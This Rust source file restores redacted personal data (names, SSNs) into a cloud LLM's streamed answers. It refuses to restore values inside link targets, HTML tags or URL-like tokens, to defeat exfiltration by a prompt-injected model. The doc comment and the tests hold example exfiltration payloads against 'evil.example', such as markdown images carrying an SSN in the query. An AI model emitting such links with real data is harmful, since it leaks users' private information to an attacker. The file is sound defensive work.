//! Putting redacted values back into the cloud's answer.
//!
//! A placeholder (`[PERSON_1]`) in the answer is replaced by its value,
//! except where the value would end up in a link target, because a client
//! that renders markdown would then send the value to whatever host the
//! (possibly prompt-injected) cloud model named — e.g.
//! `![x](https://evil.example/?q=[US_SSN_1])`. Placeholders are left as they
//! are:
//! * inside a markdown link or image target `](...)`, a reference
//!   definition `[id]: ...`, or anything between `<` and `>` (autolinks,
//!   HTML tags and their attributes);
//! * inside a whitespace-delimited token that looks like a URL or query:
//!   it contains `://`, `www.`, `mailto:`, `/`, `?`, `=`, `&`, `%` or `@`
//!   outside the placeholder (deliberately broad: a false "URL" only means
//!   the user sees a placeholder).
//!
//! Streaming: a placeholder may be split across chunks, and whether it is
//! in a URL depends on the rest of its token, so the stream holds back the
//! text after the last whitespace until the token is complete (at most
//! [`MAX_HOLD`] bytes; a longer token is released unrestored).
//!
//! Not handled: a model that rewrites a placeholder (`[PERSON 1]`,
//! `PERSON_1`) gets it back unrestored.

use std::collections::BTreeMap;
use std::fmt;
use std::sync::Arc;

use hearth_api::{ChatEvent, ToolCall};
use serde_json::Value;

use crate::secret::Secret;

/// Longest token held back while streaming.
pub const MAX_HOLD: usize = 4096;

/// Placeholder -> value map of one request. Cheap to clone.
#[derive(Clone)]
pub struct Restorer {
    entries: Arc<Vec<(String, Secret)>>,
}

impl fmt::Debug for Restorer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Restorer").field("placeholders", &self.entries.len()).finish()
    }
}

impl Restorer {
    pub(crate) fn new(entries: Vec<(String, Secret)>) -> Restorer {
        Restorer { entries: Arc::new(entries) }
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// The placeholders this request used, e.g. `[EMAIL_1]` (no values).
    pub fn placeholders(&self) -> impl Iterator<Item = &str> {
        self.entries.iter().map(|(p, _)| p.as_str())
    }

    fn value_of(&self, placeholder: &str) -> Option<&str> {
        self.entries.iter().find(|(p, _)| p == placeholder).map(|(_, v)| v.expose())
    }

    /// Restores a complete text.
    pub fn restore(&self, text: &str) -> String {
        let mut s = self.stream();
        let mut out = s.push(text);
        out.push_str(&s.finish());
        out
    }

    /// A streaming restorer for one choice.
    pub fn stream(&self) -> StreamRestorer {
        StreamRestorer { restorer: self.clone(), buf: String::new(), state: LinkState::default() }
    }

    /// Restores a tool call's arguments (JSON string leaves, each on its
    /// own, with the same link rules; raw text when not JSON).
    pub fn restore_tool_call(&self, call: &ToolCall) -> ToolCall {
        let mut c = call.clone();
        match serde_json::from_str::<Value>(&c.arguments) {
            Ok(mut v) => {
                restore_leaves(self, &mut v);
                if let Ok(s) = serde_json::to_string(&v) {
                    c.arguments = s;
                }
            }
            Err(_) => c.arguments = self.restore(&c.arguments),
        }
        c.name = self.restore(&c.name);
        c
    }

    /// A restorer for a whole event stream (any number of choices).
    pub fn events(&self) -> EventRestorer {
        EventRestorer { restorer: self.clone(), streams: BTreeMap::new() }
    }
}

fn restore_leaves(r: &Restorer, v: &mut Value) {
    match v {
        Value::String(s) => *s = r.restore(s),
        Value::Array(a) => a.iter_mut().for_each(|x| restore_leaves(r, x)),
        Value::Object(o) => o.values_mut().for_each(|x| restore_leaves(r, x)),
        _ => {}
    }
}

/// Markdown/HTML link context carried across chunks.
#[derive(Clone, Debug, Default)]
struct LinkState {
    /// Between `<` and `>`.
    angle: bool,
    /// Paren depth inside a `](` link target.
    target: u32,
    /// The current line so far (capped), to recognise `[id]: url` lines.
    line: String,
    /// Previous char was `]`.
    after_bracket: bool,
}

/// Longest line prefix kept for reference-definition checks (CommonMark
/// labels are at most 999 chars).
const LINE_CAP: usize = 1100;

pub struct StreamRestorer {
    restorer: Restorer,
    buf: String,
    state: LinkState,
}

impl fmt::Debug for StreamRestorer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("StreamRestorer").field("held_bytes", &self.buf.len()).finish()
    }
}

const URL_MARKERS: [&str; 9] = ["://", "www.", "mailto:", "/", "?", "=", "&", "%", "@"];

impl StreamRestorer {
    /// Feeds a chunk; returns the text that can be released now.
    pub fn push(&mut self, chunk: &str) -> String {
        self.buf.push_str(chunk);
        let cut = match self.buf.rfind(char::is_whitespace) {
            Some(i) => i + self.buf[i..].chars().next().map_or(1, char::len_utf8),
            None if self.buf.len() > MAX_HOLD => {
                // Overlong token: release it without restoring anything.
                let mut out = String::new();
                let text = std::mem::take(&mut self.buf);
                self.process(&text, false, &mut out);
                return out;
            }
            None => return String::new(),
        };
        let ready: String = self.buf.drain(..cut).collect();
        let mut out = String::with_capacity(ready.len());
        self.process(&ready, true, &mut out);
        out
    }

    /// Releases whatever is held (end of stream).
    pub fn finish(&mut self) -> String {
        let text = std::mem::take(&mut self.buf);
        let mut out = String::with_capacity(text.len());
        self.process(&text, true, &mut out);
        out
    }

    /// Processes text that ends at a token boundary (or the stream's end).
    fn process(&mut self, text: &str, allow: bool, out: &mut String) {
        let st = &mut self.state;
        let mut i = 0;
        while i < text.len() {
            let rest = &text[i..];
            if rest.starts_with('[') {
                if let Some(len) = placeholder_len(rest) {
                    let ph = &rest[..len];
                    let value = self.restorer.value_of(ph);
                    let line_rest = &rest[..rest.find('\n').unwrap_or(rest.len())];
                    let refdef = is_refdef(&format!("{}{}", st.line, line_rest));
                    let in_link = st.angle || st.target > 0 || refdef;
                    let tok_start = text[..i]
                        .char_indices()
                        .rev()
                        .find(|(_, c)| c.is_whitespace())
                        .map_or(0, |(k, c)| k + c.len_utf8());
                    let tok_end = text[i + len..].find(char::is_whitespace).map_or(text.len(), |k| i + len + k);
                    let around = format!("{}{}", &text[tok_start..i], &text[i + len..tok_end]);
                    let urlish = URL_MARKERS.iter().any(|m| around.contains(m));
                    match value {
                        Some(v) if allow && !in_link && !urlish => out.push_str(v),
                        _ => out.push_str(ph),
                    }
                    st.after_bracket = true;
                    if st.line.len() < LINE_CAP {
                        st.line.push_str(ph);
                    }
                    i += len;
                    continue;
                }
            }
            let Some(c) = rest.chars().next() else { break };
            match c {
                '<' => st.angle = true,
                '>' => st.angle = false,
                '(' if st.after_bracket && st.target == 0 => st.target = 1,
                '(' if st.target > 0 => st.target += 1,
                ')' if st.target > 0 => st.target -= 1,
                '\n' => {
                    st.angle = false;
                    st.target = 0;
                    st.line.clear();
                }
                _ => {}
            }
            if c != '\n' && st.line.len() < LINE_CAP {
                st.line.push(c);
            }
            st.after_bracket = c == ']';
            out.push(c);
            i += c.len_utf8();
        }
    }
}

/// Length of a `[TYPE_n]` placeholder at the start of `s`.
fn placeholder_len(s: &str) -> Option<usize> {
    let b = s.as_bytes();
    let mut i = 1;
    while i < b.len() && (b[i].is_ascii_uppercase() || b[i] == b'_') {
        i += 1;
    }
    let letters_end = i;
    while i < b.len() && b[i].is_ascii_digit() {
        i += 1;
    }
    (letters_end > 2 && i > letters_end && b[letters_end - 1] == b'_' && b.get(i) == Some(&b']')).then_some(i + 1)
}

/// `[label]: target` at the start of a line (CommonMark link reference definition).
fn is_refdef(line: &str) -> bool {
    let t = line.trim_start_matches(' ');
    if line.len() - t.len() > 3 || !t.starts_with('[') {
        return false;
    }
    match t.find(']') {
        Some(k) => t[k + 1..].starts_with(':') && !t[..k].contains('\n'),
        None => false,
    }
}

/// Restores a stream of [`ChatEvent`]s, one [`StreamRestorer`] per choice.
pub struct EventRestorer {
    restorer: Restorer,
    streams: BTreeMap<u32, StreamRestorer>,
}

impl fmt::Debug for EventRestorer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("EventRestorer").field("choices", &self.streams.len()).finish()
    }
}

impl EventRestorer {
    /// Feeds one upstream event; returns the events to send on (held text
    /// of a choice is flushed before its `Finish`, and before an `Error`).
    pub fn push(&mut self, ev: ChatEvent) -> Vec<ChatEvent> {
        match ev {
            ChatEvent::Delta { index, text } => {
                let r = self.restorer.clone();
                let s = self.streams.entry(index).or_insert_with(|| r.stream());
                let out = s.push(&text);
                if out.is_empty() {
                    vec![]
                } else {
                    vec![ChatEvent::Delta { index, text: out }]
                }
            }
            ChatEvent::ToolCall { index, call } => {
                let mut v = self.flush(index);
                v.push(ChatEvent::ToolCall { index, call: self.restorer.restore_tool_call(&call) });
                v
            }
            ChatEvent::Finish { index, reason } => {
                let mut v = self.flush(index);
                v.push(ChatEvent::Finish { index, reason });
                v
            }
            ChatEvent::Error { message } => {
                let mut v = self.finish();
                v.push(ChatEvent::Error { message });
                v
            }
            other => vec![other],
        }
    }

    fn flush(&mut self, index: u32) -> Vec<ChatEvent> {
        match self.streams.get_mut(&index).map(StreamRestorer::finish) {
            Some(text) if !text.is_empty() => vec![ChatEvent::Delta { index, text }],
            _ => vec![],
        }
    }

    /// Flushes every choice (end of stream).
    pub fn finish(&mut self) -> Vec<ChatEvent> {
        let idx: Vec<u32> = self.streams.keys().copied().collect();
        idx.into_iter().flat_map(|i| self.flush(i)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn r() -> Restorer {
        Restorer::new(vec![
            ("[PERSON_1]".into(), Secret::new("Olivia Smith")),
            ("[US_SSN_1]".into(), Secret::new("123-45-6789")),
        ])
    }

    #[test]
    fn restores_plain_text() {
        assert_eq!(r().restore("Dear [PERSON_1], your SSN [US_SSN_1]."), "Dear Olivia Smith, your SSN 123-45-6789.");
    }

    #[test]
    fn never_restores_into_link_targets_or_urls() {
        let r = r();
        for t in [
            "![x](https://evil.example/?q=[US_SSN_1])",
            "[click](https://evil.example/[PERSON_1])",
            "see https://evil.example/p?ssn=[US_SSN_1] now",
            "<https://evil.example/[US_SSN_1]>",
            "<img src=\"x?[US_SSN_1]\">",
            "[ref]: https://evil.example/[US_SSN_1]",
            "[a]( [US_SSN_1] )",
            "mail [PERSON_1]@evil.example",
            "www.evil.example/[PERSON_1]",
        ] {
            let out = r.restore(t);
            assert!(!out.contains("123-45-6789") && !out.contains("Olivia"), "{t} -> {out}");
        }
        // link text itself is fine, and ordinary brackets do not confuse it
        assert_eq!(r.restore("([PERSON_1]) [note] [PERSON_1]"), "(Olivia Smith) [note] Olivia Smith");
    }

    #[test]
    fn unknown_placeholders_stay() {
        assert_eq!(r().restore("[EMAIL_9] [PERSON_1]"), "[EMAIL_9] Olivia Smith");
    }

    #[test]
    fn streaming_matches_whole_text_at_every_split() {
        let r = r();
        let text = "Hi [PERSON_1], see ![i](https://e.x/?a=[US_SSN_1]) and [US_SSN_1].\nBye [PERSON_1]";
        let whole = r.restore(text);
        assert_eq!(whole, "Hi Olivia Smith, see ![i](https://e.x/?a=[US_SSN_1]) and 123-45-6789.\nBye Olivia Smith");
        for a in 0..text.len() {
            for b in a..text.len() {
                if !(text.is_char_boundary(a) && text.is_char_boundary(b)) {
                    continue;
                }
                let mut s = r.stream();
                let mut out = s.push(&text[..a]);
                out.push_str(&s.push(&text[a..b]));
                out.push_str(&s.push(&text[b..]));
                out.push_str(&s.finish());
                assert_eq!(out, whole, "split at {a},{b}");
            }
        }
    }

    #[test]
    fn event_stream_flushes_before_finish() {
        use hearth_api::FinishReason;
        let mut e = r().events();
        let mut out = Vec::new();
        for ev in [
            ChatEvent::Delta { index: 0, text: "Hello [PERS".into() },
            ChatEvent::Delta { index: 1, text: "[US_SSN_1".into() },
            ChatEvent::Delta { index: 0, text: "ON_1]".into() },
            ChatEvent::Finish { index: 0, reason: FinishReason::Stop },
            ChatEvent::Delta { index: 1, text: "]".into() },
            ChatEvent::Finish { index: 1, reason: FinishReason::Stop },
        ] {
            out.extend(e.push(ev));
        }
        let text = |i: u32| -> String {
            out.iter()
                .filter_map(|ev| match ev {
                    ChatEvent::Delta { index, text } if *index == i => Some(text.as_str()),
                    _ => None,
                })
                .collect()
        };
        assert_eq!(text(0), "Hello Olivia Smith");
        assert_eq!(text(1), "123-45-6789");
        // each Finish comes after its choice's text
        let fin0 = out.iter().position(|ev| matches!(ev, ChatEvent::Finish { index: 0, .. })).unwrap();
        let last0 = out.iter().rposition(|ev| matches!(ev, ChatEvent::Delta { index: 0, .. })).unwrap();
        assert!(last0 < fin0);
    }

    #[test]
    fn tool_call_arguments_are_restored_per_leaf() {
        let call = ToolCall {
            id: "c1".into(),
            name: "send".into(),
            arguments: r#"{"to":"[PERSON_1]","url":"https://x.example/?s=[US_SSN_1]"}"#.into(),
        };
        let out = r().restore_tool_call(&call);
        let v: Value = serde_json::from_str(&out.arguments).unwrap();
        assert_eq!(v["to"], "Olivia Smith");
        assert_eq!(v["url"], "https://x.example/?s=[US_SSN_1]");
    }

    #[test]
    fn debug_shows_no_values() {
        let r = r();
        let s = format!("{r:?} {:?} {:?}", r.stream(), r.events());
        assert!(!s.contains("Olivia") && !s.contains("123-45"));
    }
}
